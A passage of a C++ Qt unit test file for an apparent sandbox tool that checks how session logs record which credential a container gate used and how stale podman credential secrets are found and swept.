            r.kind = SessionLog::kindOf(g);
            r.time = g.time;
            r.gate = g;
            records << r;
        }
        QCOMPARE(SessionLog::credentialCounts(records), QStringLiteral("anthropic: 1, github: 1"));
        QCOMPARE(SessionLog::toJson(records[0], QStringLiteral("s"), std::nullopt)
                     .value(QStringLiteral("credential"))
                     .toString(),
                 QStringLiteral("anthropic"));
        QVERIFY(!SessionLog::toJson(records[1], QStringLiteral("s"), std::nullopt)
                     .contains(QStringLiteral("credential")));
        QVERIFY(SessionLog::toText(records[0], std::nullopt).contains(QLatin1String("credential anthropic")));
    }
    // The sweep: a gate's secret without its gate goes; others' secrets and live gates' stay.
    void staleSecretsAreSwept()
    {
        PodmanResult listing;
        listing.exitCode = 0;
        listing.stdoutData = "aisb-p-s1-gate-credentials\naisb-p-s2-gate-credentials\nsomeone-elses\n"
                             "aisb-p-s3-gate\n";
        QCOMPARE(SessionReaper::staleCredentialSecrets(listing, {QStringLiteral("aisb-p-s2-gate")}),
                 QStringList{QStringLiteral("aisb-p-s1-gate-credentials")});
        listing.exitCode = 125;
        QVERIFY(SessionReaper::staleCredentialSecrets(listing, {}).isEmpty());
        // podman refuses a secret name over 64 characters: a long project's gate gets a hashed one,
        // which the sweep still matches to its gate.
        const QString longGate = ResourceName::gateContainer(
            ResourceName::sandboxContainer(projectSlug(QStringLiteral("/home/u/a-project-with-a-long-name")),
                                           QStringLiteral("20260101-000000-abcdef")));
        const QString hashed = ResourceName::gateCredentialSecret(longGate);
        QVERIFY2(hashed.size() <= 64, qPrintable(hashed));
        QVERIFY(ResourceName::isGateCredentialSecret(hashed));
        QCOMPARE(ResourceName::gateCredentialSecret(longGate), hashed); // the same each time
        QCOMPARE(ResourceName::gateCredentialSecret(QStringLiteral("aisb-p-s2-gate")),
                 QStringLiteral("aisb-p-s2-gate-credentials")); // a short one stays readable
        listing.exitCode = 0;
        listing.stdoutData = hashed.toUtf8() + "\naisb-p-s1-gate-credentials\n";
        QCOMPARE(SessionReaper::staleCredentialSecrets(listing, {longGate}),
                 QStringList{QStringLiteral("aisb-p-s1-gate-credentials")});
        QCOMPARE(SessionReaper::staleCredentialSecrets(listing, {}).size(), 2);
        // Live: every session container, and the gate of an open session whose owner lives.
        QHash<QString, QStringList> containers;
        containers[QStringLiteral("s2")] = {QStringLiteral("aisb-p-s2-gate"), QStringLiteral("aisb-p-s2")};
        QCOMPARE(SessionReaper::liveGateContainers(containers, {}).size(), 2);
    }
};

QTEST_GUILESS_MAIN(TestCredentials)
#include "tst_credentials.moc"
